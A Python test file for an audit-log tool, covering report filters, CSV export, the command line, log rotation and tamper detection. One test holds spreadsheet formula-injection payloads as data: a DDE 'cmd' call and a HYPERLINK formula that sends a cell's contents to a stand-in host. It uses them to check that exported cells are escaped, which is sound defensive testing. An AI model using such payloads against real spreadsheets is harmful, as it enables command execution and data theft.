"""testbed_hub.audit: reports and CSV, and the command line the collectors call."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from datetime import timedelta

import pytest

from testbed_hub.audit import CSV_COLUMNS, AuditLog, report, rotate, to_csv
from testbed_hub.audit.__main__ import main

from .test_audit_append import T0, fill


@pytest.fixture
def log(tmp_path):
    path = tmp_path / "audit.log"
    a = AuditLog(path)
    at = [T0 + timedelta(hours=h) for h in range(6)]
    a.append("login", "alice@testbed.example", user="alice", source="192.0.2.10", now=at[0])
    a.append("batch_start", "alice@testbed.example", user="alice", object=["e4", "e42"], now=at[1])
    a.append(
        "file_read",
        "bob@testbed.example",
        user="bob",
        object="/home/jovyan/nist/e42/r.csv",
        now=at[2],
    )
    rotate(path, identity="ops-admin", now=at[3])
    a.append("export", "bob@testbed.example", user="bob", object="/srv/exports/e4.zip", now=at[4])
    a.append(
        "playbook_run",
        "ops-admin",
        object=["jupyterhub"],
        details={"experiments": ["e7"]},
        now=at[5],
    )
    return path


def events(rows):
    return [r["event"] for r in rows]


def test_filters_combine_across_rotated_files(log):
    assert events(report(log)) == [
        "login",
        "batch_start",
        "file_read",
        "rotate",
        "export",
        "playbook_run",
    ]
    assert events(report(log, user="bob")) == ["file_read", "export"]
    assert events(report(log, identity="alice@testbed.example")) == ["login", "batch_start"]
    assert events(report(log, event="export")) == ["export"]
    assert events(report(log, since="2025-03-01T10:00:00Z", until=T0 + timedelta(hours=4))) == [
        "batch_start",
        "file_read",
        "rotate",
    ]


@pytest.mark.parametrize(
    ("experiment", "found"),
    [
        ("e42", ["batch_start", "file_read"]),  # list item; a folder of the path
        ("e4", ["batch_start"]),  # e4 is not e42, and e4.zip is not e4
        ("e7", ["playbook_run"]),  # details["experiments"]
        ("nist/e42", []),
    ],
)
def test_experiment_matches_whole_ids(log, experiment, found):
    assert events(report(log, experiment=experiment)) == found


def test_report_refuses_bad_filters(log):
    with pytest.raises(ValueError, match="since 'yesterday' is not a date or time; e.g."):
        report(log, since="yesterday")
    with pytest.raises(ValueError, match="event 'logon' is not one of: login"):
        report(log, event="logon")


def test_csv_columns_and_cells(log):
    rows = report(log, user="alice")
    assert to_csv(rows).split("\r\n") == [
        "time,event,identity,user,source,object,details",
        "2025-03-01T09:00:00.000000Z,login,alice@testbed.example,alice,192.0.2.10,,{}",
        '2025-03-01T10:00:00.000000Z,batch_start,alice@testbed.example,alice,,"[""e4"",""e42""]",{}',
        "",
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_text(start):
    row = {
        "time": "2025-03-01T09:00:00.000000Z",
        "event": "file_read",
        "identity": start + "cmd|' /C calc'!A0",
        "user": "alice",
        "source": None,
        "object": start + 'HYPERLINK("http://x.example/?"&A1).csv',
        "details": {"via": "files"},
    }
    got = next(csv.DictReader(io.StringIO(to_csv([row]))))
    assert got["identity"] == "'" + row["identity"]
    assert got["object"] == "'" + row["object"]
    assert (got["user"], got["source"], got["details"]) == ("alice", "", '{"via":"files"}')


def test_csv_leaves_ordinary_cells_alone():
    row = dict.fromkeys(CSV_COLUMNS, "a=b") | {"object": 7, "details": {"n": -1}}
    got = next(csv.DictReader(io.StringIO(to_csv([row]))))
    assert got == dict.fromkeys(CSV_COLUMNS, "a=b") | {"object": "7", "details": '{"n":-1}'}


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "testbed_hub.audit", *args],
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_cli_append_verify_report(tmp_path):
    path = str(tmp_path / "audit.log")
    done = cli(
        "append", "--log", path, "--event", "playbook_run", "--identity", "ops-admin",
        "--object-json", '["jupyterhub", "reverse_proxy"]', "--details", '{"check": false}',
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    record = json.loads(done.stdout)
    assert (record["seq"], record["object"]) == (1, ["jupyterhub", "reverse_proxy"])
    done = cli("verify", "--log", path)
    assert (done.returncode, done.stdout) == (
        0,
        f"intact: 1 records in 1 files, last seq 1, last hash {record['hash']}\n",
    )
    done = cli("report", "--log", path, "--csv", "--event", "playbook_run")
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == [
        "time,event,identity,user,source,object,details",
        f'{record["time"]},playbook_run,ops-admin,,,"[""jupyterhub"",""reverse_proxy""]",'
        '"{""check"":false}"',
    ]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--source", "nginx"], "source 'nginx' is not an IP address"),
        (["--details", "{"], "argument --details: --details is not JSON"),
        (["--details", "[1]"], "details [1] must be a dict or None"),
        (["--event", "lgin"], "argument --event: invalid choice: 'lgin'"),
        (["--identity", " "], "identity ' ' is missing"),
    ],
)
def test_cli_bad_input_exits_2_and_changes_nothing(tmp_path, capsys, args, message):
    path = tmp_path / "audit.log"
    fill(path, 2)
    before = path.read_bytes()
    base = {"--event": "login", "--identity": "alice@testbed.example"}
    base.update(dict(zip(args[::2], args[1::2], strict=True)))
    argv = ["append", "--log", str(path)] + [x for kv in base.items() for x in kv]
    with pytest.raises(SystemExit) as e:
        sys.exit(main(argv))
    assert e.value.code == 2
    assert message in capsys.readouterr().err
    assert path.read_bytes() == before


def test_cli_verify_names_the_line_and_exits_1(tmp_path, capsys):
    path = tmp_path / "audit.log"
    fill(path, 5)
    path.write_bytes(path.read_bytes().replace(b"take3", b"take7"))
    assert main(["verify", "--log", str(path)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("BROKEN: audit.log line 4 (seq 4): hash does not match its content")
    assert main(["append", "--log", str(path), "--event", "login", "--identity", "a@t"]) == 0
    assert main(["verify", "--log", str(tmp_path / "nothing.log")]) == 2
    assert "no audit log at" in capsys.readouterr().err


def test_cli_rotate(tmp_path, capsys):
    path = tmp_path / "audit.log"
    assert main(["rotate", "--log", str(path)]) == 0
    assert "nothing to rotate" in capsys.readouterr().out
    fill(path, 2)
    assert main(["rotate", "--log", str(path), "--identity", "timer"]) == 0
    record = json.loads(capsys.readouterr().out)
    assert (record["event"], record["identity"], record["seq"]) == ("rotate", "timer", 3)
    assert main(["verify", "--log", str(path)]) == 0
